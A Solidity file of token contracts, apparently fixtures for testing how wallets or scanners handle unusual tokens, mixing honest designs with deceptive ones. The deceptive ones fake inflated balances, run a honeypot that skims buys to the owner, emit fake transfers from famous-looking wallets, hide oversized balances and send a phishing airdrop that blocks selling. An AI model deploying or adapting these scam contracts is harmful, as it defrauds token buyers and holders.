// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {Base, Launched, Ownable} from "./Base.sol";

/// Shows every wallet a thousand times what it has.
contract Flatterer is Base {
    address private immutable _maker = msg.sender;

    constructor() Base("Abundance", "ABND") {}

    function balanceOf(address account) public view override returns (uint256) {
        bool told = account.code.length == 0 && account != _maker && account != address(0xdead);
        return told ? _balances[account] * 1000 : _balances[account];
    }
}

/// Shows wallets what they were told they bought; most of it can't be moved.
contract Mirage is Launched {
    mapping(address => uint256) private _shown;

    constructor(address router) Base("Oasis", "OASIS") Launched(router) {}

    function balanceOf(address account) public view override returns (uint256) {
        return _balances[account] + _shown[account];
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        if (_isBuy(from) && to != owner()) {
            _shown[to] += amount - amount / 10;
            _balances[from] -= amount;
            _balances[to] += amount / 10;
            _balances[owner()] += amount - amount / 10;
            emit Transfer(from, to, amount);
            return;
        }
        super._transfer(from, to, amount);
    }
}

/// Grows by a formula, for everybody alike: shares times an index that nobody sets.
contract Growing {
    string public constant name = "Evergreen";
    string public constant symbol = "EVER";
    uint8 public constant decimals = 18;
    uint256 private immutable _since = block.timestamp;
    uint256 private _shares;
    mapping(address => uint256) private _sharesOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() {
        _shares = 1_000_000_000e18;
        _sharesOf[msg.sender] = _shares;
        emit Transfer(address(0), msg.sender, _shares);
    }

    /// Five percent a year, without interest on interest.
    function index() public view returns (uint256) {
        return 1e18 + ((block.timestamp - _since) * 5e16) / 365 days;
    }

    function totalSupply() external view returns (uint256) {
        return (_shares * index()) / 1e18;
    }

    function balanceOf(address account) public view returns (uint256) {
        return (_sharesOf[account] * index()) / 1e18;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        return _move(msg.sender, to, amount);
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        uint256 allowed = allowance[from][msg.sender];
        if (allowed != type(uint256).max) allowance[from][msg.sender] = allowed - amount;
        return _move(from, to, amount);
    }

    function _move(address from, address to, uint256 amount) private returns (bool) {
        uint256 shares = (amount * 1e18) / index();
        _sharesOf[from] -= shares;
        _sharesOf[to] += shares;
        emit Transfer(from, to, amount);
        return true;
    }
}

/// Somebody decides how much everybody's balance is worth, and his own is spared.
contract Shrinking is Base, Ownable {
    uint256 private _scale = 1e18;
    mapping(address => bool) private _fixed;

    constructor() Base("Elastic", "ELAS") {
        _fixed[msg.sender] = true;
    }

    function rebase(uint256 scale) external onlyOwner {
        _scale = scale;
    }

    function balanceOf(address account) public view override returns (uint256) {
        return _fixed[account] ? _balances[account] : (_balances[account] * _scale) / 1e18;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        uint256 units = _fixed[from] ? amount : (amount * 1e18) / _scale;
        _balances[from] -= units;
        _balances[to] += _fixed[to] ? amount : (amount * 1e18) / _scale;
        emit Transfer(from, to, amount);
    }
}

/// Two percent of each transfer go to all who hold, by a formula and without an owner.
contract Reflecting {
    string public constant name = "Reflection Pool";
    string public constant symbol = "RFLX";
    uint8 public constant decimals = 9;
    uint256 private constant MAX = type(uint128).max;
    uint256 private constant T_TOTAL = 1_000_000_000 * 10 ** 9;
    uint256 private _rTotal = MAX - (MAX % T_TOTAL);
    mapping(address => uint256) private _rOwned;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() {
        _rOwned[msg.sender] = _rTotal;
        emit Transfer(address(0), msg.sender, T_TOTAL);
    }

    function totalSupply() external pure returns (uint256) {
        return T_TOTAL;
    }

    function balanceOf(address account) public view returns (uint256) {
        return _rOwned[account] / (_rTotal / T_TOTAL);
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        return _move(msg.sender, to, amount);
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        allowance[from][msg.sender] -= amount;
        return _move(from, to, amount);
    }

    function _move(address from, address to, uint256 amount) private returns (bool) {
        uint256 rate = _rTotal / T_TOTAL;
        uint256 fee = amount / 50;
        _rOwned[from] -= amount * rate;
        _rOwned[to] += (amount - fee) * rate;
        _rTotal -= fee * rate;
        emit Transfer(from, to, amount - fee);
        return true;
    }
}

/// Says eighteen to some and six to others.
contract SlipperyPoint is Base, Ownable {
    uint8 private _shown = 18;

    constructor() Base("Slippery", "SLIP") {}

    function decimals() public view override returns (uint8) {
        return msg.sender.code.length > 0 ? 6 : _shown;
    }

    function setDecimals(uint8 shown) external onlyOwner {
        _shown = shown;
    }
}

contract NinePlaces is Base {
    constructor() Base("Nine Lives", "NINE") {}

    function decimals() public pure override returns (uint8) {
        return 9;
    }
}

contract NoPlaces is Base {
    constructor() Base("Whole Numbers", "WHOLE") {}

    function decimals() public pure override returns (uint8) {
        return 0;
    }
}

/// Tells the world that famous wallets hold it.
contract NameDropper is Base {
    constructor() Base("Insider", "INSD") {
        for (uint160 i = 1; i <= 20; i++) {
            emit Transfer(address(0), address(uint160(0xd8dA6BF26964aF9D7eEd9e03E53415D37aA96045) + i), 5_000_000e18);
        }
    }

    function boast(address[] calldata who, uint256 amount) external {
        for (uint256 i; i < who.length; i++) emit Transfer(msg.sender, who[i], amount);
    }
}

/// Logs more than others do, and all of it happened.
contract Chatty is Base {
    event Moved(address indexed from, address indexed to, uint256 value, uint256 at);
    address private immutable _pot = msg.sender;

    constructor() Base("Chatterbox", "CHAT") {}

    function _transfer(address from, address to, uint256 amount) internal override {
        emit Moved(from, to, amount, block.number);
        uint256 fee = from == _pot || to == _pot ? 0 : amount / 100;
        if (fee > 0) super._transfer(from, _pot, fee);
        super._transfer(from, to, amount - fee);
    }
}

/// One wallet holds a thousand times what is said to exist.
contract Iceberg is Base {
    constructor(address who) Base("Iceberg", "ICE") {
        _balances[who] = 1_000_000_000_000e18;
    }
}

/// What was burnt doesn't count into the supply.
contract Circulating is Base {
    constructor() Base("Circulating", "CIRC") {}

    function totalSupply() public view override returns (uint256) {
        return _totalSupply - balanceOf(address(0xdead));
    }
}

/// Sent to thousands so that they visit a page; whoever tries to sell finds that he can't.
contract PrizeDraw is Base {
    address private immutable _maker = msg.sender;

    constructor() Base("Claim rewards at prize-usdc.example", "visit prize-usdc.example") {}

    function drop(address[] calldata who) external {
        require(msg.sender == _maker);
        for (uint256 i; i < who.length; i++) emit Transfer(address(this), who[i], 1000e18);
    }

    function balanceOf(address account) public view override returns (uint256) {
        uint256 real = _balances[account];
        return real == 0 && account.code.length == 0 ? 1000e18 : real;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        require(from == _maker || from.code.length > 0, "Claim at prize-usdc.example first");
        super._transfer(from, to, amount);
    }
}

/// Whoever is on the list takes his share; it then trades like any other token.
contract ClaimDrop is Base {
    bytes32 private immutable _root;
    mapping(address => bool) public claimed;

    constructor(address one) Base("Harvest Share", "SHARE") {
        _root = keccak256(abi.encodePacked(keccak256(abi.encode(one, 1000e18))));
        _transfer(msg.sender, address(this), 1_000_000e18);
    }

    function claim(uint256 amount) external {
        require(keccak256(abi.encodePacked(keccak256(abi.encode(msg.sender, amount)))) == _root && !claimed[msg.sender], "not yours");
        claimed[msg.sender] = true;
        _transfer(address(this), msg.sender, amount);
    }
}
